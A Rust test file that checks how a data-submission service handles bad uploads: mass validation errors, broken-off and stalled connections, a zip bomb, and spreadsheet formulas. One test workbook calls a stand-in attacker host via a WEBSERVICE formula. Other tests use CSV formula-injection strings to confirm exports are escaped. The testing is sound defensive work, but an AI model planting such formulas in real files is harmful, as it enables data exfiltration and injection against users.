//! Files and clients that mean no good, or have had bad luck: each gets a clear answer, and nothing is stored. What
//! keeps a file from being read at all is in `formats` and `submissions`.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

use rust_xlsxwriter::{Formula, Workbook};
use serde_json::{Value, json};

use crate::formats::{XLSX, bomb};
use crate::support::program::Running;
use crate::support::{Coalition, Database, import, run_in_coalition};

/// Rows that all are wrong in two ways.
fn wrong(rows: usize) -> String {
    let mut text = "measure,period,age_group,value\n".to_owned();
    for row in 0..rows {
        text += &format!("VISITS,{},old,{row}.5\n", 1000 + row % 9000);
    }
    text
}

/// Whether the first thousand are listed, in their order, two for each row.
fn assert_listed(errors: &Value) {
    let errors = errors.as_array().expect("errors");
    assert_eq!(errors.len(), 1_000);
    assert_eq!(
        (&errors[0]["at"], &errors[0]["code"]),
        (&json!("line 2"), &json!("unknown_code"))
    );
    assert_eq!(
        (&errors[999]["at"], &errors[999]["code"]),
        (&json!("line 501"), &json!("too_many_decimals"))
    );
}

#[test]
fn very_many_errors_are_counted_and_the_first_thousand_listed() {
    run_in_coalition(async |app, coalition| {
        let before = app.snapshot();
        let path = coalition.path("/observations");
        let text = wrong(50_000);
        let refused = coalition
            .partner
            .post_csv(&path, &text)
            .send()
            .await
            .expect(422)
            .json();
        assert_listed(&refused["errors"]);
        assert_eq!(
            refused["detail"],
            "50000 of 50000 rows cannot be taken; nothing was changed; the first 1000 of 100000 errors are listed"
        );
        let rehearsed = coalition.partner.post_csv(&format!("{path}?dry_run=true"), &text);
        let rehearsed = rehearsed.send().await.expect(200).json();
        assert_listed(&rehearsed["errors"]);
        assert_eq!(
            (&rehearsed["errors_total"], &rehearsed["counts"]["rejected"]),
            (&json!(100_000), &json!(50_000))
        );
        let more = wrong(50_001);
        let refused = coalition.partner.post_csv(&path, &more).send().await.expect(413);
        assert!(refused.text().contains("respond-async"), "{}", refused.text());
        before.assert_same(&app.snapshot(), "rows that all are wrong");
    });
}

#[test]
fn a_million_errors_are_too() {
    run_in_coalition(async |app, coalition| {
        let before = app.snapshot();
        let folder = tempfile::tempdir().expect("a folder");
        let file = folder.path().join("wrong.csv");
        std::fs::write(&file, wrong(500_000)).expect("a file");
        let names = [&coalition.code, coalition.partner.organization()];
        let output = import(app.database(), names, &file, &[]);
        let (said, complaint) = (
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr),
        );
        assert!(!output.status.success());
        assert!(
            complaint.contains(
                "500000 of 500000 rows cannot be taken; nothing was changed; the first 1000 of 1000000 errors"
            ),
            "{complaint}"
        );
        assert!(
            said.starts_with("error at line 2: ")
                && said.ends_with("\n… and 999980 more\n")
                && said.lines().count() == 21,
            "{said}"
        );
        before.assert_same(&app.snapshot(), "a file with a million errors");
    });
}

/// A request for a submission, up to the blank line.
fn head(coalition: &Coalition, key: &str, fields: &str) -> String {
    format!(
        "POST {} HTTP/1.1\r\nHost: cairn\r\nAuthorization: Bearer {key}\r\n{fields}\r\n",
        coalition.path("/observations")
    )
}

/// What stands in the tables that a submission could have changed.
fn stored(database: &Database) -> Vec<String> {
    let tables = [
        "observations",
        "observation_history",
        "submissions",
        "imports",
        "idempotency_keys",
    ];
    let queries = tables.map(|table| format!("SELECT CAST(COUNT(*) AS TEXT) AS text FROM {table}"));
    database.connect().texts(&queries.join(" UNION ALL "))
}

fn connect(address: SocketAddr) -> TcpStream {
    let stream = TcpStream::connect(address).expect("a connection");
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .expect("a setting");
    stream
}

/// Everything that the service says until it hangs up.
fn answer(mut stream: TcpStream) -> String {
    let mut text = Vec::new();
    // A connection that was reset says nothing more either.
    let _ = stream.read_to_end(&mut text);
    String::from_utf8_lossy(&text).into_owned()
}

/// Waits until only the spool's own file is left in it.
fn assert_emptied(spool: &Path) {
    for _ in 0..500 {
        if std::fs::read_dir(spool).expect("a spool").count() <= 1 {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("something is left in the spool");
}

#[test]
fn an_upload_that_breaks_off_leaves_nothing() {
    run_in_coalition(async |app, coalition| {
        let key = coalition.partner.key(&["observations:write"], None).await;
        let folder = tempfile::tempdir().expect("a folder");
        let (_service, address) = Running::serve(app.database(), folder.path());
        let rows: String = (1001..9001)
            .map(|year| format!("VISITS,{year},{year}\n"))
            .collect();
        let text = format!("measure,period,value\n{rows}");
        let before = stored(app.database());
        let length = format!("Content-Length: {}\r\n", text.len());
        for prefer in ["", "Prefer: respond-async\r\n"] {
            for framing in [&length, "Transfer-Encoding: chunked\r\n"] {
                for media_type in ["text/csv", "application/json", "application/x-ndjson", XLSX] {
                    let fields =
                        format!("Content-Type: {media_type}\r\n{framing}{prefer}Idempotency-Key: once\r\n");
                    let mut stream = connect(address);
                    stream
                        .write_all(head(&coalition, key.token(), &fields).as_bytes())
                        .expect("a head");
                    if framing.contains("chunked") {
                        write!(stream, "{:x}\r\n", text.len()).expect("a chunk");
                    }
                    stream
                        .write_all(&text.as_bytes()[..text.len() / 2])
                        .expect("half of it");
                    stream.shutdown(Shutdown::Write).expect("an end");
                    let said = answer(stream);
                    assert!(
                        said.is_empty() || said.starts_with("HTTP/1.1 400 "),
                        "{media_type}, {framing}{prefer}: {said}"
                    );
                    assert_emptied(folder.path());
                    assert_eq!(stored(app.database()), before, "{media_type}, {framing}{prefer}");
                }
            }
        }
        // Whoever sends it whole is answered, under the same key.
        let fields =
            format!("Content-Type: text/csv\r\n{length}Idempotency-Key: once\r\nConnection: close\r\n");
        let mut stream = connect(address);
        stream
            .write_all(head(&coalition, key.token(), &fields).as_bytes())
            .expect("a head");
        stream.write_all(text.as_bytes()).expect("all of it");
        assert!(answer(stream).starts_with("HTTP/1.1 201 "));
    });
}

#[test]
fn a_client_that_stops_half_way_keeps_nobody_waiting() {
    run_in_coalition(async |app, coalition| {
        let key = coalition.partner.key(&["observations:write"], None).await;
        let folder = tempfile::tempdir().expect("a folder");
        let (_service, address) = Running::serve(app.database(), folder.path());
        let before = stored(app.database());
        let mut stopped = Vec::new();
        for number in 0..40 {
            let prefer = if number % 2 == 0 {
                ""
            } else {
                "Prefer: respond-async\r\n"
            };
            let fields = format!("Content-Type: text/csv\r\nContent-Length: 1000000\r\n{prefer}");
            let mut stream = connect(address);
            stream
                .write_all(head(&coalition, key.token(), &fields).as_bytes())
                .expect("a head");
            stream
                .write_all(b"measure,period,value\nVISITS,20")
                .expect("a beginning");
            stopped.push(stream);
        }
        let body = "measure,period,value\nVISITS,2020,5\n";
        let fields = format!(
            "Content-Type: text/csv\r\nContent-Length: {}\r\nConnection: close\r\n",
            body.len()
        );
        let mut stream = connect(address);
        stream
            .write_all((head(&coalition, key.token(), &fields) + body).as_bytes())
            .expect("a request");
        assert!(answer(stream).starts_with("HTTP/1.1 201 "));
        drop(stopped);
        assert_emptied(folder.path());
        let (before, after): (Vec<u64>, Vec<u64>) = before
            .iter()
            .zip(stored(app.database()))
            .map(|(before, after)| (before.parse::<u64>().unwrap(), after.parse::<u64>().unwrap()))
            .unzip();
        let added: Vec<u64> = after
            .iter()
            .zip(&before)
            .map(|(after, before)| after - before)
            .collect();
        assert_eq!(added, [1, 0, 1, 0, 0]);
    });
}

#[test]
fn a_workbook_lies_on_disk_and_no_longer_than_it_is_read() {
    run_in_coalition(async |app, coalition| {
        let spool = app.database().spool();
        let path = coalition.path("/observations");
        let send = async |body: Vec<u8>| {
            let request = coalition.partner.request("POST", &path).body(XLSX, body);
            request.send().await
        };
        let book = |value: &str| {
            let mut book = Workbook::new();
            let sheet = book.add_worksheet();
            for (row, [period, visits]) in (0..).zip([["period", "VISITS"], ["2024", value]]) {
                sheet
                    .write(row, 0, period)
                    .and_then(|sheet| sheet.write(row, 1, visits))
                    .expect("a row");
            }
            book.save_to_buffer().expect("a workbook")
        };
        for (body, status) in [
            (book("5"), 201),
            (book("5.5"), 422),
            (bomb(), 413),
            (b"PK and no more".to_vec(), 400),
            (b"PK".repeat(9 * 1024 * 1024), 413),
        ] {
            send(body).await.expect(status);
            assert_emptied(&spool);
        }
        // A disk that takes no more.
        std::fs::remove_dir_all(&spool).expect("a spool");
        let before = app.snapshot();
        send(book("6")).await.expect(503);
        before.assert_same(&app.snapshot(), "a workbook that could not be put on disk");
        let csv = "measure,period,value\nVISITS,2024,6\n";
        coalition.partner.post_csv(&path, csv).send().await.expect(201);
    });
}

#[test]
fn a_formula_counts_with_what_it_came_to() {
    run_in_coalition(async |_, coalition| {
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        for (column, name) in (0..).zip(["period", "PROGRAMS", "VISITS", "note"]) {
            sheet.write(0, column, name).expect("a header");
        }
        sheet
            .write(1, 0, Formula::new("=2000+24").set_result("2024"))
            .expect("a cell");
        sheet
            .write(1, 1, Formula::new("=SUM(B9:B99)").set_result("12"))
            .expect("a cell");
        sheet
            .write(
                1,
                2,
                Formula::new("=WEBSERVICE(\"http://evil.example\")").set_result("7"),
            )
            .expect("a cell");
        sheet
            .write(1, 3, Formula::new("=\"=\"&\"1+1\"").set_result("=1+1"))
            .expect("a cell");
        let path = coalition.path("/observations");
        let book = book.save_to_buffer().expect("a workbook");
        coalition
            .partner
            .request("POST", &path)
            .body(XLSX, book)
            .send()
            .await
            .expect(201);
        let found = coalition
            .partner
            .get(&format!("{path}?period=2024"))
            .send()
            .await
            .expect(200)
            .data();
        let told: Vec<(&Value, &Value)> = found.iter().map(|row| (&row["value"], &row["note"])).collect();
        let note = json!("=1+1");
        assert_eq!(told, [(&json!(12), &note), (&json!(7), &note)]);
        let csv = coalition
            .partner
            .get(&format!("{path}?period=2024&format=csv"))
            .send()
            .await
            .expect(200)
            .text();
        assert_eq!(csv.matches(",false,'=1+1,").count(), 2, "{csv}");
    });
}

#[test]
fn tables_that_go_out_hold_no_formulas_and_keep_their_signs() {
    run_in_coalition(async |_, coalition| {
        let (backbone, partner) = (&coalition.backbone, &coalition.partner);
        let new = json!({"code": "SURPLUS", "name": "Surplus", "unit": "=dollars", "kind": "number", "decimals": 2,
            "aggregation": "sum", "direction": "up", "frequency": "year", "nonnegative": false, "disclosure": "open"});
        backbone
            .post(&coalition.path("/measures"), new)
            .send()
            .await
            .expect(201);
        let place = coalition.path(&format!("/partners/{}", partner.organization()));
        for (run, value) in [("=1+1", "-12.5"), ("+1", "-0.25"), ("-1", "-7"), ("@sum", "12")] {
            let patch = json!({"attributes": {"sector": run}});
            backbone.patch(&place, patch).send().await.expect(200);
            let body = format!("measure,period,value,note\nSURPLUS,2024,{value},\"{run} \tx\"\n");
            partner
                .post_csv(&coalition.path("/observations"), &body)
                .send()
                .await
                .expect(201);
            for (path, expected) in [
                (
                    "/aggregates?measure=SURPLUS&by=partner_sector&format=csv",
                    format!(r#""2024-12-31","'{run}",{value},"'=dollars","#),
                ),
                (
                    "/observations?measure=SURPLUS&format=csv",
                    format!(",{value},,false,'{run} \tx,riverside-high"),
                ),
                ("/partners?format=csv", format!(",'{run}\n")),
                (
                    "/template.csv?period=2024",
                    format!("SURPLUS,2024,,{value},,,'{run} \tx\n"),
                ),
            ] {
                let client = if path.contains("template") {
                    partner
                } else {
                    backbone
                };
                let text = client.get(&coalition.path(path)).send().await.expect(200).text();
                assert!(text.contains(&expected), "{expected} is not in {text}");
            }
        }
    });
}
